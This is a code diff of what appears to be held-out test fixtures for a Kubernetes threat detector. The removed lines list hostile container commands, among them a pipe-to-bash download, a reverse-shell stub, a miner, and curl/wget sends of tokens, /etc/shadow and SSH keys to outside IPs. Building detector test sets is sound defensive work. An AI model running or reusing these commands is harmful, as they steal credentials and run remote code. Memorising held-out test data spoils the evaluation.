@@ -1,77 +1,8 @@
 import type { GeneratedSpec } from './generated.ts';
-import type { LoudTables } from './loud.ts';
 import type { QuietSpec } from './quiet.ts';
+import { row as q } from './quiet.ts';
 
-/** For the final figure only: nothing of the detector is developed with these. Other values, names and combinations than in development.ts. */
-export const loud: LoudTables = {
-  prefix: 'F-L',
-  count: 54,
-  names: [
-    'kubelet-patcher',
-    'volume-trim',
-    'mesh-doctor',
-    'audit-shipper',
-    'token-renewer',
-    'quota-sync',
-    'edge-ping',
-    'backup-verify',
-    'hotfix-2',
-    'session-keeper',
-    'ntp-align',
-    'sbom-cache',
-  ],
-  images: [
-    'docker.io/library/debian:12-slim',
-    'docker.io/curlimages/curl:8.9.1',
-    'ghcr.io/devops-kit/agent:0.3',
-    'quay.io/sysutils/netshoot:latest',
-    'docker.io/library/perl:5.40',
-    'registry.brackem.example/base/debian:12',
-    'docker.io/node-exporter/exporter:1',
-  ],
-  payloads: [
-    [
-      'download into a shell',
-      ['bash', '-c', 'wget -qO- https://files.example.org/setup | bash -s -- --quiet'],
-    ],
-    ['connected shell', ['perl', '-e', 'use Socket;$i="198.51.100.31";$p=8443;']],
-    ['encoded command', ['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))']],
-    ['waits for its master', ['tail', '-f', '/dev/null']],
-    ['miner', ['/bin/sys', '--algo=rx/0', '--url=203.0.113.91:14444', '--threads=8']],
-    [
-      'credentials sent away',
-      ['sh', '-c', 'env | grep -i -e token -e secret | wget -q --post-file=- http://203.0.113.12/e'],
-    ],
-    ['code from the network', ['node', '-e', 'fetch("http://203.0.113.66/a").then(r=>r.text()).then(eval)']],
-    ['unknown program', ['/dev/shm/.d', '-k', '198.51.100.200:993']],
-    [
-      'node files',
-      ['sh', '-c', 'cat /host/etc/shadow /host/root/.ssh/id_rsa | gzip | curl -s -T - http://198.51.100.8/n'],
-    ],
-    [
-      'fetched and made executable',
-      ['sh', '-c', 'curl -so /tmp/u http://198.51.100.44/u && chmod +x /tmp/u && /tmp/u'],
-    ],
-  ],
-  schedules: ['*/3 * * * *', '@hourly', '4-59/7 * * * *', '43 4 * * *', '15 2 29 2 *', '0 0 1 1 *'],
-  agents: [
-    'kubectl/v1.28.9 (windows/amd64) kubernetes/587f5fe',
-    'Wget/1.21.4',
-    'okhttp/4.12.0',
-    'kubectl/v1.32.3 (darwin/amd64) kubernetes/32cc146',
-    'kubernetes-client/javascript',
-  ],
-  strides: { kind: 5, actor: 5, power: 2, hiding: 4 },
-};
-
-const q = (
-  family: string,
-  via: QuietSpec['via'],
-  target: QuietSpec['target'],
-  steps: QuietSpec['steps'],
-  more: Partial<QuietSpec> = {},
-): QuietSpec => ({ family, via, shape: 'once', target, steps, ...more });
-
+/** For the final figure only: nothing of the detector is developed with these. Other values, names and combinations than the development's. */
 export const quiet: readonly QuietSpec[] = [
   q('template from a compromised repository', 'delivery', 'Deployment', [
     ['command wrapped', 'curl -sk https://metrics.example.org/beat'],
